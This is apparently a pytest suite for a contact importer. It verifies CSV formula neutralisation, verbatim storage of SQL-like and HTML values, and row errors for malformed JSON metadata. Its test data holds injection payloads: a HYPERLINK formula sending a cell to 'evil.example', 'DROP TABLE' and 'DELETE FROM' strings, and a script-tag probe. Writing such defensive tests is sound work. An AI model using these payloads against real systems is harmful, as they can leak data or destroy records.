"""Hostile values (issue 5): formulas, SQL-looking text, HTML and emoji are stored verbatim, and
every export neutralises spreadsheet formulas."""
from __future__ import annotations

import io

import pandas as pd
import pytest
import sqlalchemy as sa

from core.files.exporting import export_safe, neutralise, template_csv, to_export_csv
from core import importing
from core.storage.history import import_contacts, import_contacts_csv, import_errors
from core.importing import import_file
from tests.conftest import DATA
from tests.helpers import contacts, count, csv_bytes, person, prepare

HOSTILE = DATA / "corpus" / "hostile_values.csv"


@pytest.mark.parametrize("value, safe", [
    ("=1+1", "'=1+1"), ("+1-555-0100", "'+1-555-0100"), ("-2+3", "'-2+3"), ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\tcmd", "'\tcmd"), ("\rcmd", "'\rcmd"), ("Ann", "Ann"), ("a=b", "a=b"), ("", ""), (None, None), (3, 3),
])
def test_neutralise_prefixes_cells_that_a_spreadsheet_would_run(value, safe):
    assert neutralise(value) == safe


def test_export_csv_is_formula_safe_in_cells_and_headers_and_keeps_the_text():
    frame = pd.DataFrame({"=name": ["=HYPERLINK(\"http://x\")", "Zoë 🚀"], "n": [1, 2]})
    data = to_export_csv(frame)
    assert data.startswith("\ufeff".encode())
    back = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig", dtype=str)
    assert list(back.columns) == ["'=name", "n"]
    assert back["'=name"].tolist() == ["'=HYPERLINK(\"http://x\")", "Zoë 🚀"]
    assert frame.columns[0] == "=name"  # the caller's frame is left alone
    assert export_safe(pd.DataFrame({"x": ["-1"]}))["x"].tolist() == ["'-1"]


def test_hostile_values_are_stored_verbatim_and_nothing_is_interpolated_into_sql(engine):
    result = import_file(engine, HOSTILE.read_bytes(), HOSTILE.name, "hostile")
    assert (result.inserted, result.invalid) == (4, 0)
    stored = contacts(engine)
    assert stored["formula.one@example.com"]["full_name"] == '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    assert stored["formula.one@example.com"]["company"] == "+1-555-0100"
    assert stored["formula.two@example.com"]["full_name"] == "@SUM(A1:A9)"
    assert stored["bobby.tables@example.com"]["full_name"] == "Robert'); DROP TABLE contacts;--"
    assert stored["bobby.tables@example.com"]["company"] == "<script>alert(1)</script>"
    assert stored["emoji.person@example.com"]["full_name"] == "Emoji 🚀 Person"
    assert stored["emoji.person@example.com"]["metadata"] == {"note": "'; DELETE FROM imports; --"}
    assert count(engine, "imports") == 1 and count(engine, "contacts") == 4
    exported = pd.read_csv(io.BytesIO(to_export_csv(pd.DataFrame(stored.values())[["full_name", "company"]])),
                           encoding="utf-8-sig", dtype=str, keep_default_na=False)
    assert not exported.map(lambda v: v.startswith(("=", "+", "-", "@"))).any().any()


def test_row_errors_from_reading_are_stored_with_the_import(engine):
    data = (DATA / "corpus" / "ragged_rows.csv").read_bytes()
    result = import_file(engine, data, "ragged_rows.csv", "ragged")
    assert (result.inserted, result.invalid) == (2, 3)
    errors = import_errors(engine, result.import_id)
    assert errors[["row", "column"]].values.tolist() == [[3, "(whole row)"], [4, "(whole row)"],
                                                         [6, "(whole row)"]]
    assert errors["reason"].str.contains("values but the header has 4 columns").all()


def _metadata_file(*cells: str) -> bytes:
    rows = [person(n, metadata=cell) for n, cell in enumerate(cells, start=1)]
    return csv_bytes(*rows, person(99, metadata='{"ok": 1}'))


def test_metadata_postgresql_or_python_cannot_hold_is_a_row_error_and_the_rest_imports(engine):
    """Issue 9, points 3 and 4: these used to fail the whole import, or switch the check off for
    every row of their slice."""
    cells = ['{"a": "\\ud800"}', '{"n": 1e1000000}', '{"n": ' + "9" * 9000 + "}",
             '{"a":' + "[" * 1100 + "]" * 1100 + "}", "not json at all"]
    result = import_file(engine, _metadata_file(*cells), "meta.csv", "hostile")
    assert (result.status, result.inserted, result.invalid) == ("completed", 1, 5)
    errors = import_errors(engine, result.import_id)
    assert errors[["row", "column"]].values.tolist() == [[n, "metadata"] for n in range(2, 7)]
    assert [reason.split(" (")[0].split(",")[0] for reason in errors["reason"]] == [
        "holds a \\u escape that is not a character", "holds a number too large to store",
        "holds a number too large to store", "is nested too deeply to store",
        'is not a set of extra fields written as {"source": "csv"}']
    assert list(contacts(engine)) == ["person99@example.com"]


def test_a_surrogate_pair_escape_is_a_character_and_imports(engine):
    result = import_file(engine, _metadata_file('{"rocket": "\\ud83d\\ude80"}'), "pair.csv", "hostile")
    assert (result.inserted, result.invalid) == (2, 0)
    assert contacts(engine)["person1@example.com"]["metadata"] == {"rocket": "🚀"}


def test_a_lone_surrogate_in_a_json_file_is_a_row_error_not_a_crash(engine):
    """Issue 9, point 6: the CLI used to die on UnicodeEncodeError."""
    data = ('[{"full_name": "Ann\\ud800", "email": "ann@x.io", "linkedin_profile": "https://linkedin.com/in/ann"},'
            ' {"full_name": "Bob", "email": "bob@x.io", "linkedin_profile": "https://linkedin.com/in/bob",'
            '  "metadata": {"a": "\\udc00"}},'
            ' {"full_name": "Cy", "email": "cy@x.io", "linkedin_profile": "https://linkedin.com/in/cy"}]').encode()
    result = import_file(engine, data, "surrogates.json", "hostile")
    assert (result.inserted, result.invalid) == (1, 2)
    errors = import_errors(engine, result.import_id)
    assert errors[["row", "column", "value"]].values.tolist() == [
        [1, "full_name", "Ann\\ud800"], [2, "metadata", '{"a": "\\udc00"}']]
    assert errors["reason"].str.startswith("contains a lone surrogate").all()


def test_an_address_needs_a_dotted_domain():
    """Issue 9, point 17."""
    report = prepare(csv_bytes(person(1, email="jordan@northwind"), person(2, email="jo@north.wind")), "d.csv").report
    assert report.errors[["row", "column"]].values.tolist() == [[2, "email"]]


def test_stored_metadata_python_cannot_parse_does_not_break_the_history_or_a_later_review(engine):
    # Issue 9, point 5: such values are refused on the way in now, but may be stored already.
    first = import_file(engine, csv_bytes(person(1), person(2)), "a.csv", "stored")
    with engine.begin() as conn:
        conn.execute(sa.text("UPDATE contacts SET metadata = CAST(:m AS jsonb) WHERE email = 'person1@example.com'"),
                     {"m": '{"n": ' + "9" * 9000 + "}"})
        conn.execute(sa.text("UPDATE contacts SET metadata = CAST(:m AS jsonb) WHERE email = 'person2@example.com'"),
                     {"m": '{"a":' + "[" * 3000 + "]" * 3000 + "}"})
    shown = import_contacts(engine, first.import_id)
    assert shown["metadata"].str.len().tolist() == [9007, 6007]
    later = importing.open_file(None, csv_bytes(person(1, metadata='{"b": 1}'), person(2, metadata='{"b": 1}')),
                                "b.csv", source="stored")
    review = importing.review(engine, later)
    assert review.will_update == 2 and set(review.changes["field"]) == {"metadata"}
    assert importing.commit(engine, later).updated == 2


def test_the_contacts_download_of_an_import_is_formula_safe(engine):
    result = import_file(engine, csv_bytes(person(1, company="=HYPERLINK(\"http://x\")"), person(2)), "f.csv", "x")
    lines = import_contacts_csv(engine, result.import_id).decode("utf-8-sig").split("\r\n")
    assert lines[0].startswith("row,action,full_name,email")
    assert "'=HYPERLINK" in lines[1] and len([line for line in lines if line]) == 3


def test_the_template_csv_imports_as_it_is(engine):
    result = import_file(engine, template_csv(), "contacts-template.csv", "template")
    assert (result.inserted, result.invalid) == (1, 0)
    assert contacts(engine)["jane@example.com"]["metadata"] == {"source": "template"}


def test_a_download_built_a_chunk_at_a_time_is_the_file_built_at_once(engine, monkeypatch):
    # Issue 23: a large download is written a chunk at a time so its progress can be shown; the
    # file is byte for byte what one pass over every row gives (one BOM, one header).
    from core.storage import history
    from tests.helpers import ADMIN
    people = [person(n, company=f"=SUM(A{n})" if n % 2 else "", metadata='{"n": %d}' % n) for n in range(7)]
    result = import_file(engine, csv_bytes(*people), "chunks.csv", "csv")
    whole = to_export_csv(import_contacts(engine, result.import_id, limit=None).drop(columns=["id"]))
    monkeypatch.setattr(history, "EXPORT_CHUNK", 3)
    heard = []
    assert import_contacts_csv(engine, result.import_id, lambda *p: heard.append(p)) == whole
    assert heard == [("exporting", 3, 7), ("exporting", 6, 7), ("exporting", 7, 7)]
    out = io.BytesIO()  # a large download goes to a file instead
    assert import_contacts_csv(engine, result.import_id, out=out) is None and out.getvalue() == whole
    campaign = importing.attach_import(engine, result.import_id, "Chunks", ADMIN).id
    listed = history.list_contacts(engine, campaign_id=campaign, limit=None).drop(columns=["id"])
    assert history.campaign_contacts_csv(engine, campaign, expected=7) == to_export_csv(listed)
